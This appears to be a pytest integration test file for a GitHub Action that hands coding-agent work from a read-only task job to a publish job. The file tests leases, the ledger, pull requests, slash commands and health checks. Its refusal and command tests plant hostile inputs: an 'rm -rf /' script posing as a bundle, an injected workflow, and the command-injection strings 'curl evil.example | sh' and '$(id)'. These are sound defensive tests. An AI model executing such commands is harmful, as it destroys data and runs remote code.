"""The split Action: the task job writes nothing anywhere, the publish job checks what it was
handed before it pushes a thing.

Each job is the action's entry called as action.yml calls it, on its own fresh clone of
"GitHub" (a bare repository as the git remote, `FakeGitHub` as the REST API). The task job's
token is read-only (the fake answers its writes with GitHub's 403), and its agent is a fake at
the `Agent` protocol that edits the worktree; everything else — worktrees, verification in
the checks sandbox, commits, the bundle, the publish job's checks, the push, the pull request,
the ledger — is real. The artifact store between the jobs is a copy of the hand-off directory.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from multi_agent_coder.config import Settings
from multi_agent_coder.errors import EXIT_INTERRUPTED, EXIT_OK, EXIT_PROBLEMS
from multi_agent_coder.forge import github_sansio as sansio
from multi_agent_coder.forge.base import LABEL_RETRY
from multi_agent_coder.forge.github import GitHubForge
from multi_agent_coder.git.ledger import LEDGER_REF
from multi_agent_coder.git.repo import Repo
from tests.integration import actionworld
from tests.integration.actionworld import agent_factory, github, hand_over, handoff_dir
from tests.integration.gitrepos import git, git_env, make_repo
from tests.integration.test_action_entry import SLUG, TOKEN, Job
from tests.support import backlog_yaml, task_dict
from tests.unit.test_run_engine import CHECK, FakeAgent, Scenario, writes

READ_TOKEN = "ghs_READONLY0123456789abcdef"  # noqa: S105 - a made-up token
RUN_ID = "gha-4242"
MACODER = (Settings().git_author_name, Settings().git_author_email)

SETTINGS = (
    "checks:\n"
    f"  test: [{json.dumps(sys.executable)}, check.py]\n"
    "models: {implementation: fake/strong, documentation: fake/cheap}\n"
    "task_timeout: 60\n"
)


@dataclass
class World(actionworld.World):
    """GitHub after the wave's plan job (`plan`), which leased T001 and T002."""

    plan: Job

    def remote_refs(self) -> dict[str, str]:
        out = git(self.remote, "for-each-ref", "--format=%(refname) %(objectname)")
        return dict(line.split(" ", 1) for line in out.splitlines())

    def ledger(self) -> list[dict[str, Any]]:
        text = git(self.remote, "show", f"{LEDGER_REF}:ledger.jsonl")
        return [json.loads(line) for line in text.splitlines()]

    def attempts(self, task_id: str) -> list[dict[str, Any]]:
        return [r for r in self.ledger() if r["type"] == "attempt" and r["task"] == task_id]

    def released(self, task_id: str) -> bool:
        return any(
            r["type"] == "release" and r["task"] == task_id and r["run_id"] == RUN_ID
            for r in self.ledger()
        )


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with open_world(tmp_path) as opened:
        yield opened


@contextlib.contextmanager
def open_world(tmp_path: Path, notes: str = "fine\n") -> Iterator[World]:
    """GitHub with the repository planned on (T001 and T002 leased); `notes`: what notes.txt
    holds ("BROKEN" fails the repository's own check)."""
    author = make_repo(
        tmp_path / "author",
        {
            "BACKLOG.yaml": backlog_yaml(task_dict("T001"), task_dict("T002")),
            "check.py": CHECK,
            "notes.txt": notes,
            ".gitignore": ".macoder/\n",
            ".macoder.yaml": SETTINGS,
        },
    )
    with github(tmp_path, author) as (fake, server):
        fake.read_only_tokens.add(READ_TOKEN)
        (tmp_path / "plan").mkdir()
        git(tmp_path / "plan", "clone", "-q", str(server / f"{SLUG}.git"), "checkout")
        plan = Job(tmp_path / "plan", tmp_path / "plan" / "checkout", server, fake.api_url)
        code, out = plan.run(mode="plan")
        assert code == EXIT_OK, out
        assert plan.outputs["ready"] == '["T001","T002"]'
        yield World(tmp_path, fake, server, plan.outputs["base-sha"], plan=plan)


def run_task(world: World, task_id: str, scenario: Scenario | None = None, **inputs: str) -> Job:
    """The task job with the read-only token; its checkout and hand-off stay for a look.
    `inputs`: more of the action's inputs (`healthy_sha=`)."""
    job = world.job(f"task-{task_id}")
    agent = FakeAgent({task_id: scenario} if scenario is not None else {})
    code, out = job.run(
        mode="task",
        task_id=task_id,
        base_sha=world.base_sha,
        token=READ_TOKEN,
        agent=agent_factory(agent),
        **inputs,
    )
    assert code in (EXIT_OK, EXIT_PROBLEMS), out
    job.log = out  # type: ignore[attr-defined]
    job.agent = agent  # type: ignore[attr-defined]
    return job


def publish(world: World, task: Job | None, task_id: str, **inputs: str) -> tuple[int, str, Job]:
    """The publish job, with the task job's hand-off as its downloaded artifact."""
    job = world.job(f"publish-{task_id}")
    hand_over(task, job)
    code, out = job.run(mode="publish", task_id=task_id, base_sha=world.base_sha, **inputs)
    return code, out, job


# --------------------------------------------------------------------------- the flow


def test_the_task_job_writes_nothing_and_the_publish_job_opens_the_one_pr(world: World) -> None:
    before = world.remote_refs()
    world.fake.clear_exchanges()
    task = run_task(world, "T001")

    # The task job changed nothing on GitHub: no branch, no ledger record, no API write.
    assert world.remote_refs() == before
    assert [e for e in world.fake.exchanges if e.method != "GET"] == []
    assert task.outputs["result"] == "succeeded"
    assert task.outputs["operation"] == "handed-off"
    handed = json.loads((handoff_dir(task) / "T001" / "result.json").read_text())
    assert handed["base_sha"] == world.base_sha
    assert handed["run_id"] == RUN_ID
    assert handed["pull"]["draft"] is False
    assert (handoff_dir(task) / "T001" / "task.bundle").is_file()

    code, out, job = publish(world, task, "T001")
    assert code == EXIT_OK, out
    refs = world.remote_refs()
    assert refs["refs/heads/macoder/T001"] == handed["head_sha"]
    pulls = world.fake.pulls(SLUG)
    assert [(p["head"]["ref"], p["head"]["sha"]) for p in pulls] == [
        ("macoder/T001", handed["head_sha"])
    ]
    assert job.outputs["operation"] == "created"
    assert job.outputs["result"] == "succeeded"
    changed = git(world.remote, "diff", "--name-only", world.base_sha, "macoder/T001").split()
    assert sorted(changed) == ["BACKLOG.yaml", "t001.txt"]
    # The attempt the task job counted is on the shared ledger now, and the lease is free.
    attempts = world.attempts("T001")
    assert [(a["outcome"], a["run_id"]) for a in attempts] == [("success", RUN_ID)]
    assert attempts[0]["tokens_in"] == 1200
    assert world.released("T001")
    # Every field of the attempt the task job wrote is carried through unchanged, the
    # metrics report's among them.
    [line] = [r for r in handed["records"] if '"type": "attempt"' in r]
    assert attempts[0] == json.loads(line)
    assert attempts[0]["base_sha"] == world.base_sha
    assert (attempts[0]["role"], attempts[0]["drift"]) == ("documentation", False)
    assert (attempts[0]["session_created"], attempts[0]["session_deleted"]) == (True, True)

    # Published again (a re-run of the publish job): still one pull request.
    code, out, _ = publish(world, task, "T001")
    assert code == EXIT_OK, out
    assert len(world.fake.pulls(SLUG)) == 1


def test_a_task_job_given_a_write_token_still_writes_nothing(world: World) -> None:
    before = world.remote_refs()
    world.fake.clear_exchanges()
    job = world.job("task-T001")
    code, out = job.run(
        mode="task", task_id="T001", base_sha=world.base_sha, agent=agent_factory(FakeAgent({}))
    )
    assert code == EXIT_OK, out
    assert world.remote_refs() == before
    assert [e for e in world.fake.exchanges if e.method != "GET"] == []


def test_a_task_job_whose_base_moved_starts_nothing_and_publish_only_releases(
    world: World,
) -> None:
    author = world.base / "author"
    git(author, "commit", "-q", "--allow-empty", "-m", "meanwhile")
    git(author, "push", "-q", str(world.remote), "main")
    agent = FakeAgent({})
    job = world.job("task-T001")
    code, out = job.run(
        mode="task",
        task_id="T001",
        base_sha=world.base_sha,
        token=READ_TOKEN,
        agent=agent_factory(agent),
    )
    assert code == EXIT_OK, out
    assert "not at the planned base" in out
    assert agent.calls == []
    code, out, _ = publish(world, job, "T001")
    assert code == EXIT_OK, out
    assert world.attempts("T001") == []  # no attempt was made, none is counted
    assert world.released("T001")


def test_a_task_job_that_left_no_result_counts_as_an_interrupted_attempt(world: World) -> None:
    code, out, job = publish(world, None, "T002")
    assert code == EXIT_OK, out
    assert "::warning" in out
    assert job.outputs["result"] == "interrupted"
    attempts = world.attempts("T002")
    assert len(attempts) == 1
    assert attempts[0]["outcome"] == "interrupted"
    assert "left no result" in attempts[0]["reason"]
    assert attempts[0]["base_sha"] == world.base_sha  # what it ran against is known, nothing else
    assert [k for k in ("session_created", "drift", "agent_s", "role") if k in attempts[0]] == []
    assert world.released("T002")
    assert "refs/heads/macoder/T002" not in world.remote_refs()


def test_the_plan_writes_each_lease_with_the_start_of_its_attempt(world: World) -> None:
    started = [(r["type"], r["task"]) for r in world.ledger() if r["type"] in ("lease", "start")]
    assert started == [("lease", "T001"), ("start", "T001"), ("lease", "T002"), ("start", "T002")]


def test_a_task_job_stopped_midway_counts_as_an_interrupted_attempt(world: World) -> None:
    """The job is cancelled or times out while the agent works: its hand-off holds the
    attempt's start and no end, and the publish job counts the attempt."""

    def killed() -> None:
        raise KeyboardInterrupt

    job = world.job("task-T001")
    code, out = job.run(
        mode="task",
        task_id="T001",
        base_sha=world.base_sha,
        token=READ_TOKEN,
        agent=agent_factory(FakeAgent({"T001": Scenario(writes("x.txt"), during=killed)})),
    )
    assert code == EXIT_INTERRUPTED, out

    code, out, done = publish(world, job, "T001")

    assert code == EXIT_OK, out
    assert done.outputs["result"] == "interrupted"
    [attempt] = world.attempts("T001")
    assert attempt["outcome"] == "interrupted"
    assert attempt["reason"].startswith("interrupted: the task job began the task and stopped")
    assert world.released("T001")


# --------------------------------------------------------------------------- people's answers


def plan_again(world: World, run: str) -> tuple[Job, str]:
    """A later workflow run's plan job (its own run id, so its own leases)."""
    job = world.job(f"plan-{run}")
    job.env["GITHUB_RUN_ID"] = run
    code, out = job.run(mode="plan")
    assert code == EXIT_OK, out
    return job, out


def test_the_next_plan_s_summary_reports_the_metrics_of_what_was_published(
    world: World,
) -> None:
    """The first wave's plan saw an empty ledger; the next wave's plan job summary reports
    the attempts the publish jobs recorded since (`macoder report --format markdown`)."""
    assert "### macoder metrics (the ledger before this wave): 0 attempt(s)" in (
        world.plan.summary.read_text()
    )
    for task_id, scenario in (("T001", None), ("T002", Scenario(writes("t.txt", "BROKEN\n")))):
        code, out, _ = publish(world, run_task(world, task_id, scenario), task_id)
        assert code in (EXIT_OK, EXIT_PROBLEMS), out
    assert [a["outcome"] for a in world.attempts("T001") + world.attempts("T002")] == [
        "success",
        "failure",
    ]
    job, _ = plan_again(world, "4343")
    summary = job.summary.read_text()
    assert summary.index("### macoder plan:") < summary.index("### macoder metrics")
    assert "### macoder metrics (the ledger before this wave): 2 attempt(s) on 2 task(s)" in summary
    assert "| first-attempt success | 1/2 tasks, 50.0 % | > 70 % ❌ |" in summary
    assert "| sessions verified deleted | 2/2, 100.0 % | 100 % ✅ |" in summary
    assert "| drift alerts | 0 | |" in summary


def published_pr(world: World, task_id: str) -> int:
    """`task_id` run and published: the number of its one pull request."""
    task = run_task(world, task_id)
    code, out, done = publish(world, task, task_id)
    assert code == EXIT_OK, out
    return int(done.outputs["pr-number"])


def person(world: World) -> contextlib.closing[GitHubForge]:
    """What a person does on GitHub, through the same REST API."""
    github = GitHubForge(
        SLUG,
        TOKEN,
        repo=Repo.open(world.plan.checkout),
        api_url=world.fake.api_url,
        git_remote_url=world.plan.remote_url,
    )
    return contextlib.closing(github)


def test_a_pr_a_person_closed_holds_its_task_on_the_next_plans(world: World) -> None:
    number = published_pr(world, "T001")
    with person(world) as github:
        github._send(sansio.update_pull(github.slug, number, state="closed"))

    for run in ("5001", "5002"):
        job, out = plan_again(world, run)
        assert "T001" not in json.loads(job.outputs["ready"])
        assert f"T001: rejected: PR #{number} was closed unmerged" in out
        assert "#### Held for a person" in job.summary.read_text()
    answers = [r for r in world.ledger() if r["type"] == "answer"]
    assert [(a["task"], a["pr"], a["answer"]) for a in answers] == [("T001", number, "closed")]

    # A person asks again: the label on the closed PR. One label is one request: the plan
    # keeps it as a reset after the answer (a fresh attempt budget) and takes the label off.
    with person(world) as github:
        github.add_labels(number, [LABEL_RETRY])
    job, _ = plan_again(world, "5003")
    assert "T001" in json.loads(job.outputs["ready"])
    kinds = [(r["type"], r["task"]) for r in world.ledger() if r["type"] in ("answer", "reset")]
    assert kinds == [("answer", "T001"), ("reset", "T001")]
    with person(world) as github:
        [answered] = [pr for pr in github.list_prs(include_closed=True) if pr.number == number]
    assert LABEL_RETRY not in answered.labels


def test_a_task_pr_has_one_progress_comment_that_each_job_edits_in_place(world: World) -> None:
    number = published_pr(world, "T001")

    [comment] = world.fake.comments(SLUG, number)
    assert "### macoder · T001" in comment
    assert "1 attempt so far" in comment
    assert "| 1 |" in comment
    assert "| success |" in comment
    [kept] = [r for r in world.ledger() if r["type"] == "comment"]
    assert (kept["task"], kept["pr"]) == ("T001", number)

    # A person turns it back into a draft (a try again): the next plan says where it runs.
    with person(world) as github:
        [pr] = [p for p in github.list_prs() if p.number == number]
        github.set_draft(pr, draft=True)
    job, _ = plan_again(world, "5001")
    assert "T001" in json.loads(job.outputs["ready"])

    [comment] = world.fake.comments(SLUG, number)
    server = job.env["GITHUB_SERVER_URL"]
    assert f"⏳ Attempt 2 is running: {server}/{SLUG}/actions/runs/5001\n" in comment
    assert len([r for r in world.ledger() if r["type"] == "comment"]) == 1  # the same comment


def test_a_progress_comment_github_refuses_does_not_fail_the_publish(world: World) -> None:
    task = run_task(world, "T001")
    world.fake.fail(403, times=10, method="POST", path="/comments", message="Forbidden")

    code, out, done = publish(world, task, "T001")

    assert code == EXIT_OK, out
    assert done.outputs["result"] == "succeeded"
    assert [a["outcome"] for a in world.attempts("T001")] == ["success"]
    assert world.fake.comments(SLUG, int(done.outputs["pr-number"])) == []
    assert [r for r in world.ledger() if r["type"] == "comment"] == []


def test_a_merged_pr_without_the_task_completed_is_reported_not_planned(world: World) -> None:
    number = published_pr(world, "T001")
    world.fake.merged_by_a_person(SLUG, number)  # and main's backlog never said completed

    job, out = plan_again(world, "5001")

    assert "T001" not in json.loads(job.outputs["ready"])
    assert f"T001: merged: PR #{number} was merged, but the default branch's backlog" in out


# --------------------------------------------------------------------------- refusals


def assert_refused(world: World, task: Job, task_id: str, *words: str) -> None:
    before = world.remote_refs()
    world.fake.clear_exchanges()
    code, out, job = publish(world, task, task_id)
    assert code == EXIT_PROBLEMS, out
    assert job.outputs["result"] == "refused"
    assert f"refs/heads/macoder/{task_id}" not in world.remote_refs()
    assert {k: v for k, v in world.remote_refs().items() if k != LEDGER_REF} == {
        k: v for k, v in before.items() if k != LEDGER_REF
    }
    assert world.fake.pulls(SLUG) == []
    assert [e.path for e in world.fake.exchanges if e.method != "GET"] == []
    attempts = world.attempts(task_id)
    assert attempts[-1]["outcome"] == "failure"
    for word in words:
        assert word in attempts[-1]["reason"], attempts[-1]["reason"]
        assert word in out
    assert world.released(task_id)


def test_publish_refuses_a_branch_that_changes_a_workflow(world: World) -> None:
    workflow = "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\n"

    def act(worktree: Path) -> None:
        writes("t001.txt")(worktree)
        (worktree / ".github" / "workflows").mkdir(parents=True)
        (worktree / ".github" / "workflows" / "evil.yml").write_text(workflow)

    task = run_task(world, "T001", Scenario(act))
    # Verification already made it a draft for review; the publish job refuses it outright.
    assert task.outputs["result"] == "needs-review"
    assert_refused(world, task, "T001", ".github/workflows/evil.yml", "never pushed")


def rewrite(task: Job, task_id: str, **changes: Any) -> dict[str, Any]:
    path = handoff_dir(task) / task_id / "result.json"
    handed: dict[str, Any] = json.loads(path.read_text())
    handed.update(changes)
    path.write_text(json.dumps(handed))
    return handed


def add_commit(task: Job, task_id: str, files: dict[str, str], who: tuple[str, str]) -> str:
    """A commit on top of the hand-off's head, the bundle and result.json made to match
    (what an agent with the run of the task job could do)."""
    checkout = task.checkout
    ref = f"refs/macoder/handoff/{task_id}"
    handed = json.loads((handoff_dir(task) / task_id / "result.json").read_text())
    scratch = task.checkout.parent / "scratch"
    git(checkout, "worktree", "add", "-q", "--detach", str(scratch), handed["head_sha"])
    for name, text in files.items():
        (scratch / name).write_text(text)
    git(scratch, "add", "-A")
    env = git_env() | {
        "GIT_AUTHOR_NAME": who[0],
        "GIT_AUTHOR_EMAIL": who[1],
        "GIT_COMMITTER_NAME": who[0],
        "GIT_COMMITTER_EMAIL": who[1],
    }
    import subprocess

    subprocess.run(["git", "commit", "-q", "-m", "more"], cwd=scratch, env=env, check=True)
    head = git(scratch, "rev-parse", "HEAD")
    git(checkout, "update-ref", ref, head)
    bundle = handoff_dir(task) / task_id / "task.bundle"
    bundle.unlink()
    git(checkout, "bundle", "create", "-q", str(bundle), ref, f"^{world_base(handed)}")
    rewrite(task, task_id, head_sha=head, pull={**handed["pull"], "head_sha": head})
    return head


def world_base(handed: dict[str, Any]) -> str:
    return str(handed["base_sha"])


def test_publish_refuses_a_commit_someone_else_wrote(world: World) -> None:
    task = run_task(world, "T001")
    add_commit(task, "T001", {"t001.txt": "backdoor\n"}, ("Evil", "evil@example.com"))
    assert_refused(world, task, "T001", "evil@example.com", "is not macoder")


def test_publish_refuses_a_backlog_with_more_than_the_task_s_own_status_flip(
    world: World,
) -> None:
    task = run_task(world, "T001")
    remote_backlog = git(world.remote, "show", "main:BACKLOG.yaml")
    everything_done = remote_backlog.replace("status: pending", "status: completed")
    assert everything_done != remote_backlog
    add_commit(task, "T001", {"BACKLOG.yaml": everything_done}, MACODER)
    assert_refused(world, task, "T001", "BACKLOG.yaml beyond marking T001 completed")


def test_publish_refuses_a_bundle_based_on_another_commit(world: World) -> None:
    task = run_task(world, "T001")
    handed = json.loads((handoff_dir(task) / "T001" / "result.json").read_text())
    bundle = handoff_dir(task) / "T001" / "task.bundle"
    bundle.unlink()  # the whole history instead: no prerequisite, any base at all
    git(task.checkout, "bundle", "create", "-q", str(bundle), "refs/macoder/handoff/T001")
    assert handed["head_sha"]
    assert_refused(world, task, "T001", "not on the planned base")


def test_publish_refuses_a_result_for_another_base_or_run(world: World) -> None:
    task = run_task(world, "T001")
    rewrite(task, "T001", base_sha="f" * 40, run_id="gha-1")
    assert_refused(world, task, "T001", "result.json names run 'gha-1'", "base")


def test_publish_refuses_a_result_that_is_not_one(world: World) -> None:
    task = run_task(world, "T001")
    (handoff_dir(task) / "T001" / "result.json").write_text('{"version": 1, "task": [1]}')
    assert_refused(world, task, "T001", "result.json")


def test_publish_refuses_a_bundle_that_is_not_one(world: World) -> None:
    task = run_task(world, "T001")
    (handoff_dir(task) / "T001" / "task.bundle").write_bytes(b"#!/bin/sh\nrm -rf /\n")
    assert_refused(world, task, "T001", "not a git bundle")


def test_publish_refuses_a_hand_off_file_that_is_no_regular_file(world: World) -> None:
    task = run_task(world, "T001")
    result = handoff_dir(task) / "T001" / "result.json"
    result.unlink()
    result.mkdir()  # (an artifact carries files and directories only: no FIFO, no device)
    assert_refused(world, task, "T001", "result.json")


def test_publish_records_the_attempt_whatever_fails_while_carrying_it_out(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The machine failing under the publish job (a full disk, a git that is killed) still
    leaves the attempt counted and the lease released: never a task stuck leased."""
    import multi_agent_coder.run.publish as publish_module

    def broken(*args: Any, **kwargs: Any) -> None:
        raise OSError(28, "No space left on device")

    task = run_task(world, "T001")
    monkeypatch.setattr(publish_module, "_check_branch", broken)
    assert_refused(world, task, "T001", "No space left on device")


# --------------------------------------------------------------------------- PR options


def test_the_pull_request_inputs_dress_the_pr_the_publish_job_opens(world: World) -> None:
    """create-pull-request's inputs, given to the publish job (the one holding the token)."""
    world.fake.add_collaborators(SLUG, "alice")
    world.fake.add_teams(SLUG, "web")
    milestone = world.fake.add_milestone(SLUG, "v1.0")
    task = run_task(world, "T001")
    job = world.job("publish-T001")
    shutil.copytree(handoff_dir(task), handoff_dir(job))

    code, out = job.run(
        mode="publish",
        task_id="T001",
        base_sha=world.base_sha,
        reviewers="alice",
        team_reviewers="web",
        assignees="alice",
        labels="automation, team:web",
        milestone=str(milestone),
    )

    assert code == EXIT_OK, out
    [pr] = world.fake.pulls(SLUG)
    assert [u["login"] for u in pr["requested_reviewers"]] == ["alice"]
    assert [t["slug"] for t in pr["requested_teams"]] == ["web"]
    assert [u["login"] for u in pr["assignees"]] == ["alice"]
    assert [label["name"] for label in pr["labels"]] == ["macoder", "automation", "team:web"]
    assert pr["milestone"]["number"] == milestone


def test_with_delete_branch_the_plan_job_deletes_the_branch_of_a_merged_task(
    world: World,
) -> None:
    task = run_task(world, "T001")
    code, out, _ = publish(world, task, "T001")
    assert code == EXIT_OK, out
    [pr] = world.fake.pulls(SLUG)
    status, _, _ = world.fake.handle(
        "PUT",
        f"/repos/{SLUG}/pulls/{pr['number']}/merge",
        {"Authorization": f"Bearer {TOKEN}"},
        b"",
    )
    assert status == 200
    kept = world.job("plan-without")
    assert kept.run(mode="plan", dry_run="true")[0] == EXIT_OK
    assert kept.run(mode="plan")[0] == EXIT_OK
    assert "refs/heads/macoder/T001" in world.remote_refs()  # not asked: kept

    plan = world.job("plan-with")
    code, out = plan.run(mode="plan", delete_branch="true")

    assert code == EXIT_OK, out
    assert "deleted merged branches: macoder/T001" in out
    assert "refs/heads/macoder/T001" not in world.remote_refs()
    assert world.fake.pulls(SLUG)[0]["merged"] is True


# --------------------------------------------------------------------------- /macoder commands


def comment_on(world: World, number: int, body: str, association: str = "OWNER") -> Job:
    """A person's comment on PR `number`, and the plan job it starts (the event GitHub sends:
    its own `issue_comment` example with this comment in it)."""
    comment_id = world.fake.add_comment_by(SLUG, number, body)
    payload = {
        "action": "created",
        "issue": {"number": number, "pull_request": {"url": "x"}},
        "comment": {"id": comment_id, "author_association": association, "body": body},
    }
    job = world.job(f"comment-{comment_id}")
    event = job.checkout.parent / "event.json"
    event.write_text(json.dumps(payload))
    job.env |= {
        "GITHUB_EVENT_NAME": "issue_comment",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_RUN_ID": str(6000 + comment_id % 1000),
    }
    code, out = job.run(mode="plan")
    assert code == EXIT_OK, out
    job.comment_id = comment_id  # type: ignore[attr-defined]
    return job


def replies(world: World, number: int) -> list[str]:
    return [c for c in world.fake.comments(SLUG, number) if c.startswith("macoder")]


def test_macoder_retry_from_a_collaborator_reruns_a_rejected_task(world: World) -> None:
    number = published_pr(world, "T001")
    with person(world) as github:
        github._send(sansio.update_pull(github.slug, number, state="closed"))
    before = len(world.ledger())

    job = comment_on(world, number, "Let's try again.\n/macoder retry T001", "COLLABORATOR")

    assert json.loads(job.outputs["ready"]) == ["T001"]
    assert world.fake.reactions(SLUG, job.comment_id) == ["eyes", "rocket"]  # type: ignore[attr-defined]
    [reply] = replies(world, number)
    assert reply.startswith("macoder: T001 starts, attempt 1: ")
    assert reply.endswith(f"/actions/runs/{job.env['GITHUB_RUN_ID']}")
    kinds = [(r["type"], r["task"]) for r in world.ledger()[before:]]
    assert ("reset", "T001") in kinds
    assert ("lease", "T001") in kinds


def test_macoder_status_replies_with_the_table_and_plans_nothing(world: World) -> None:
    number = published_pr(world, "T001")
    leases = [r for r in world.ledger() if r["type"] == "lease"]

    job = comment_on(world, number, "/macoder status", "MEMBER")

    assert job.outputs["ready"] == "[]"
    [reply] = replies(world, number)
    assert reply.startswith("macoder status:\n\n| task | state | attempts | why |")
    assert "| `T001` | pr-open |" in reply
    assert world.fake.reactions(SLUG, job.comment_id) == ["eyes", "rocket"]  # type: ignore[attr-defined]
    assert [r for r in world.ledger() if r["type"] == "lease"] == leases


@pytest.mark.parametrize(
    ("body", "association", "said"),
    [
        ("/macoder retry T001", "NONE", "only the repository's owners, members and collaborators"),
        ("/macoder retry T001", "CONTRIBUTOR", "only the repository's owners, members and"),
        ("/macoder run T001; curl evil.example | sh", "OWNER", "takes one task id"),
        ("/macoder run T099", "OWNER", "T099 is not a task of BACKLOG.yaml"),
        ("/macoder deploy $(id)", "OWNER", "not a command macoder knows"),
    ],
    ids=["stranger", "contributor", "shell", "unknown-task", "unknown-verb"],
)
def test_a_command_that_is_not_carried_out_says_why_and_changes_nothing(
    world: World, body: str, association: str, said: str
) -> None:
    number = published_pr(world, "T001")
    before = world.ledger()

    job = comment_on(world, number, body, association)

    assert job.outputs["ready"] == "[]"
    [reply] = replies(world, number)
    assert said in reply
    assert "curl" not in reply
    assert "$(id)" not in reply
    assert world.fake.reactions(SLUG, job.comment_id) == ["eyes", "confused"]  # type: ignore[attr-defined]
    assert world.ledger() == before


def test_a_comment_that_is_no_command_starts_nothing_and_gets_no_reaction(world: World) -> None:
    number = published_pr(world, "T001")
    before = world.ledger()

    job = comment_on(world, number, "Nice work, thanks!")

    assert job.outputs["ready"] == "[]"
    assert replies(world, number) == []
    assert world.fake.reactions(SLUG, job.comment_id) == []  # type: ignore[attr-defined]
    assert world.ledger() == before


# --------------------------------------------------------------------------- the health job


def health_job(world: World) -> tuple[int, str, Job]:
    """The wave's health job: a checkout of the planned commit, no token at all."""
    job = world.job("health")
    code, out = job.run(mode="health", base_sha=world.base_sha, token=False)
    return code, out, job


def test_the_health_job_checks_the_planned_commit_and_the_task_jobs_trust_it(
    world: World,
) -> None:
    world.fake.clear_exchanges()
    code, out, health = health_job(world)
    assert code == EXIT_OK, out
    assert health.outputs == {
        "healthy-sha": world.base_sha,
        "unhealthy-sha": "",
        "result": "healthy",
    }
    assert f"health check passed for {world.base_sha}" in out
    assert "healthy: the wave's task jobs trust this check" in health.summary.read_text()
    assert world.fake.exchanges == []  # it needs nothing from GitHub (and has no token)

    task = run_task(world, "T001", healthy_sha=health.outputs["healthy-sha"])
    log = task.log  # type: ignore[attr-defined]
    assert f"health check passed for {world.base_sha} in the wave's health job" in log
    assert task.outputs["result"] == "succeeded"
    code, out, done = publish(world, task, "T001", unhealthy_sha="")
    assert code == EXIT_OK, out
    assert done.outputs["operation"] == "created"
    assert [a["outcome"] for a in world.attempts("T001")] == ["success"]


@pytest.fixture
def broken(tmp_path: Path) -> Iterator[World]:
    """T001 and T002 planned on a commit whose own check fails."""
    with open_world(tmp_path, notes="BROKEN\n") as opened:
        yield opened


def test_an_unhealthy_base_fails_the_health_job_and_says_where(broken: World) -> None:
    code, out, health = health_job(broken)
    assert code == EXIT_PROBLEMS, out
    assert health.outputs == {
        "healthy-sha": "",
        "unhealthy-sha": broken.base_sha,
        "result": "unhealthy",
    }
    assert "::error title=macoder health::" in out
    assert f"the repository's own checks fail at {broken.base_sha}" in out
    assert "broken: ['notes.txt']" in out  # what the check printed
    assert "unhealthy: no task of this wave starts" in health.summary.read_text()


def test_a_task_the_health_job_stopped_is_recorded_as_not_started_and_not_counted(
    broken: World,
) -> None:
    """The task jobs never ran (they need the failed health job): each publish job records
    why, frees the lease, and the attempt does not count against the task."""
    from multi_agent_coder.git.ledger import attempts, parse

    code, out, job = publish(broken, None, "T001", unhealthy_sha=broken.base_sha)
    assert code == EXIT_OK, out
    assert job.outputs["result"] == "unhealthy"
    [attempt] = broken.attempts("T001")
    assert attempt["outcome"] == "infrastructure"
    assert f"the repository's own checks failed at {broken.base_sha}" in attempt["reason"]
    assert "health job" in attempt["reason"]
    assert broken.released("T001")
    assert "refs/heads/macoder/T001" not in broken.remote_refs()
    ledger = git(broken.remote, "show", f"{LEDGER_REF}:ledger.jsonl")
    assert attempts(parse(ledger)).get("T001", 0) == 0
    # A verdict about another commit explains nothing: a job that left nothing is what
    # it always was, an interrupted attempt, counted.
    code, out, job = publish(broken, None, "T002", unhealthy_sha="f" * 40)
    assert code == EXIT_OK, out
    assert job.outputs["result"] == "interrupted"
    assert [a["outcome"] for a in broken.attempts("T002")] == ["interrupted"]


def test_a_task_job_trusts_the_verdict_only_for_the_commit_it_starts_from(
    broken: World,
) -> None:
    # Told that its base is healthy (a verdict this test makes up), the task job runs no
    # check of its own: the agent starts, and verification then finds the tests failing.
    trusting = run_task(broken, "T001", healthy_sha=broken.base_sha)
    assert len(trusting.agent.calls) == 1  # type: ignore[attr-defined]
    assert "in the wave's health job" in trusting.log  # type: ignore[attr-defined]
    assert trusting.outputs["result"] == "failed"
    # A verdict about another commit, or none: the task job checks, and stops.
    for inputs in ({"healthy_sha": "f" * 40}, {}):
        checking = run_task(broken, "T001", **inputs)
        assert checking.agent.calls == [], inputs  # type: ignore[attr-defined]
        log = checking.log  # type: ignore[attr-defined]
        assert "the repository's own checks fail on main" in log, inputs
        assert "in the wave's health job" not in log
        if inputs:
            assert f"the wave's health job checked {'f' * 10}, this run starts from " in log


# --------------------------------------------------------------------------- signed commits


def test_with_sign_commits_the_publish_job_publishes_githubs_signed_copies(world: World) -> None:
    """The setting takes effect end to end: the PR's commits are GitHub's, verified, with
    exactly the trees the publish job checked; a later publish still takes them for macoder's."""
    world.fake.viewers[TOKEN] = ("macoder-app[bot]", 4242)
    task = run_task(world, "T001", sign_commits="true")
    handed = json.loads((handoff_dir(task) / "T001" / "result.json").read_text())

    code, out, job = publish(world, task, "T001", sign_commits="true")

    assert code == EXIT_OK, out
    branch = world.remote_refs()["refs/heads/macoder/T001"]
    assert branch != handed["head_sha"]
    made = git(world.remote, "rev-list", f"{world.base_sha}..{branch}").split()
    assert made
    assert set(made) <= world.fake.signed
    authors = git(world.remote, "log", "--format=%ae %ce", f"{world.base_sha}..{branch}")
    assert set(authors.splitlines()) == {
        "4242+macoder-app[bot]@users.noreply.github.com noreply@github.com"
    }
    checked_tree = git(job.checkout, "rev-parse", f"{handed['head_sha']}^{{tree}}")
    assert git(world.remote, "rev-parse", f"{branch}^{{tree}}") == checked_tree
    [pr] = world.fake.pulls(SLUG)
    assert pr["head"]["sha"] == branch == job.outputs["head-sha"]
    assert not any(ref.startswith("refs/heads/macoder-signing/") for ref in world.remote_refs())

    # Published again: the branch holds GitHub's commits, which are macoder's — still one PR.
    code, out, _ = publish(world, task, "T001", sign_commits="true")
    assert code == EXIT_OK, out
    assert len(world.fake.pulls(SLUG)) == 1
    # A job told nothing of the setting takes them for a person's: stopped, not overwritten.
    now = world.remote_refs()["refs/heads/macoder/T001"]
    code, out, _ = publish(world, task, "T001")
    assert code == EXIT_PROBLEMS
    assert "commits by someone else" in out
    assert world.remote_refs()["refs/heads/macoder/T001"] == now


def test_sign_commits_with_a_persons_token_publishes_nothing_and_says_why(world: World) -> None:
    task = run_task(world, "T001", sign_commits="true")

    code, out, _ = publish(world, task, "T001", sign_commits="true")

